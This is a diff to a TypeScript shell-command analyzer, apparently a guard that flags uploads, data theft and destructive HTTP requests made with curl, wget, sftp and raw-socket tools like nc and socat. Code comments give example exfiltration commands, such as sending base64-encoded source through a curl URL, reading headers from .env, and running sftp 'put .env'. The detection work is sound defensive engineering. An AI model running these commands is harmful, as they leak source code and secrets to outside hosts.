@@ -37,22 +37,30 @@ const curl: ProgramHandler = (ctx) => {
   const data = allOptionValues(ctx.words, ["-d", "--data", "--data-binary", "--data-raw", "--data-urlencode", "-F", "--form", "--json"]);
   const uploads = allOptionValues(ctx.words, ["-T", "--upload-file"]);
   const method = optionValue(ctx.words, ["-X", "--request"])?.value.toUpperCase();
+  // `-H @.env` reads headers from a file; a URL or header made by a command substitution carries
+  // whatever that command printed (`curl https://x/$(base64 < src/app.ts)`, `-A "$(cat f)"`).
+  const headerFiles = allOptionValues(ctx.words, ["-H", "--header"]).filter((h) => h.value.startsWith("@") && h.value.length > 1);
+  const computed = ctx.words.slice(1).some((w) => w.dynamic && /\$\(|`/.test(w.text));
   const payloads = [
     ...data.map((d) => payloadOf(ctx, d.value.replace(/^[^=@]*=(?=@|<)/, ""))),
     ...uploads.map((u) => ctx.path(u).class),
+    ...headerFiles.map((h) => payloadOf(ctx, h.value)),
+    ...(computed ? ["data" as const] : []),
   ];
   const sending = payloads.length > 0 || (method !== undefined && method !== "GET" && method !== "HEAD");
   if (method === "DELETE") targets.forEach((t) => ctx.emit({ type: "destroy", what: `HTTP DELETE ${t.value}`, span: t.span }));
   // APIs that delete through POST name it in the path: /_delete_by_query, /v1/items/purge, /flushall.
   else if (sending) targets.filter((t) => /\/_?(delete|drop|purge|truncate|flush|flushall|destroy|wipe|remove)(_by_query)?([/?#]|$)/i.test(t.value)).forEach((t) => ctx.emit({ type: "destroy", what: `HTTP ${method ?? "POST"} ${t.value}`, span: t.span }));
-  for (const t of targets) {
+  // A proxy (`-x`, or ALL_PROXY/HTTPS_PROXY set for the command) sees every request that goes through it.
+  const proxy = optionValue(ctx.words, ["-x", "--proxy"])?.value ?? proxyFromEnv(ctx);
+  for (const t of proxy ? [...targets, { ...ctx.words[0], value: proxy }] : targets) {
     const host = hostOf(t.value);
     if (sending) {
       const payload = payloads.find((p) => p !== "data") ?? "data";
       ctx.emit({ type: "net", direction: "upload", host, url: t.value, payload, span: t.span });
     } else ctx.emit({ type: "net", direction: "download", host, url: t.value, span: t.span });
   }
-  for (const p of [...data, ...uploads]) {
+  for (const p of [...data, ...uploads, ...headerFiles]) {
     const file = p.value.replace(/^[^=@]*=(?=@|<)/, "");
     if (file.startsWith("@") || file.startsWith("<") || uploads.includes(p)) {
       const name = file.replace(/^[@<]/, "");
@@ -64,13 +72,18 @@ const curl: ProgramHandler = (ctx) => {
   if (hasFlag(ctx.words, "O", ["--remote-name"])) ctx.emit({ type: "write", ...ctx.path("."), span: ctx.cmd.span });
 };
 
+/** A proxy named for this command by a variable before it (`HTTPS_PROXY=http://p:8080 curl …`). */
+function proxyFromEnv(ctx: ProgramContext): string | undefined {
+  return ctx.cmd.assignments.find((a) => /^(all|https?)_proxy$/i.test(a.name) && a.value.value)?.value.value;
+}
+
 /** `@file` / `<file` reads a file into the request body. */
 function payloadOf(ctx: ProgramContext, v: string): ReturnType<ProgramContext["path"]>["class"] | "data" {
   if ((v.startsWith("@") || v.startsWith("<")) && v.length > 1 && v !== "@-") return ctx.path(v.slice(1)).class;
   return "data";
 }
 
-const WGET_VALUE = new Set(["-O", "--output-document", "-P", "--directory-prefix", "-o", "--output-file", "-U", "--user-agent", "--header", "-t", "--tries", "-T", "--timeout", "--post-data", "--post-file", "--body-file", "--method", "-i", "--input-file", "-e"]);
+const WGET_VALUE = new Set(["-B", "--base", "-O", "--output-document", "-P", "--directory-prefix", "-o", "--output-file", "-U", "--user-agent", "--header", "-t", "--tries", "-T", "--timeout", "--post-data", "--post-file", "--body-file", "--method", "-i", "--input-file", "-e"]);
 
 const wget: ProgramHandler = (ctx) => {
   const postFile = optionValue(ctx.words, ["--post-file", "--body-file"]);
@@ -81,6 +94,14 @@ const wget: ProgramHandler = (ctx) => {
     else ctx.emit({ type: "net", direction: "download", host, url: t.value, span: t.span });
   }
   if (postFile) ctx.emit({ type: "read", ...ctx.path(postFile), span: postFile.span });
+  // `wget -i list -B https://host/`: every line of the list becomes a URL on that host, so the list's
+  // content is sent there; without -B the lines are the URLs to fetch.
+  const list = optionValue(ctx.words, ["-i", "--input-file"]);
+  if (list && list.value !== "-") {
+    ctx.emit({ type: "read", ...ctx.path(list), span: list.span });
+    const base = optionValue(ctx.words, ["-B", "--base"]);
+    ctx.emit(base ? { type: "net", direction: "upload", host: hostOf(base.value), url: base.value, payload: ctx.path(list).class, span: base.span } : { type: "net", direction: "download", host: `(URLs listed in ${list.value})`, span: list.span });
+  }
   const out = optionValue(ctx.words, ["-O", "--output-document"]);
   const dir = optionValue(ctx.words, ["-P", "--directory-prefix"]);
   if (out?.value !== "-") ctx.emit({ type: "write", ...ctx.path(out ?? dir ?? "."), span: (out ?? dir ?? ctx.words[0]).span });
@@ -111,6 +132,26 @@ function sshCommandOptions(ctx: ProgramContext): void {
   const s = optionValue(ctx.words, ["-S"]);
   if (ctx.words[0].value !== "ssh" && s) ctx.emit({ type: "dynamic", reason: `${ctx.words[0].value} -S runs ${s.value} as its ssh`, span: s.span });
 }
+
+/**
+ * sftp host with commands on stdin (`<<< 'put .env'`) or from `-b file`: `put` uploads the local
+ * file; commands we cannot see (a pipe, a batch file) may upload anything.
+ */
+const sftp: ProgramHandler = (ctx) => {
+  const ops = operands(ctx.words, COPY_VALUES_SFTP);
+  if (ops.length !== 1 || remoteSpec(`${ops[0].value}`)) return copyRemote(ctx);
+  sshCommandOptions(ctx);
+  const host = remoteSpec(`${ops[0].value}:`) ?? ops[0].value;
+  const batch = ctx.cmd.stdinText;
+  if (batch === undefined) return ctx.emit({ type: "net", direction: "upload", host, payload: "data", note: "sftp commands autogate cannot see", span: ctx.cmd.span });
+  for (const m of batch.matchAll(/^\s*m?put\s+(?:-\S+\s+)*(\S+)/gm)) {
+    const ref = ctx.path(m[1]);
+    ctx.emit({ type: "read", ...ref, span: ctx.cmd.span });
+    ctx.emit({ type: "net", direction: "upload", host, payload: ref.class, span: ctx.cmd.span });
+  }
+  ctx.emit({ type: "net", direction: "connect", host, span: ctx.cmd.span });
+};
+const COPY_VALUES_SFTP = new Set(["-P", "-i", "-o", "-F", "-l", "-c", "-J", "-b", "-B", "-R", "-s", "-S", "-D"]);
 
 /** scp/rsync/sftp: copying to `host:` is an upload of the local sources. */
 const copyRemote: ProgramHandler = (ctx) => {
@@ -186,7 +227,7 @@ const textBrowser: ProgramHandler = (ctx) => {
 
 export const NET_PROGRAMS: Record<string, ProgramHandler> = {
   lynx: textBrowser, elinks: textBrowser, w3m: textBrowser, links: textBrowser,
-  curl, wget, scp: copyRemote, rsync: copyRemote, sftp: copyRemote, nc: rawSocket, ncat: rawSocket, netcat: rawSocket,
+  curl, wget, scp: copyRemote, rsync: copyRemote, sftp, nc: rawSocket, ncat: rawSocket, netcat: rawSocket,
   socat: rawSocket, telnet: rawSocket, ssh,
   http: (ctx) => operands(ctx.words).slice(0, 2).filter((w) => /[./:]/.test(w.value)).slice(-1).forEach((w) =>
     ctx.emit({ type: "net", direction: operands(ctx.words).length > 2 ? "upload" : "download", host: hostOf(w.value), url: w.value, payload: "data", span: w.span })),
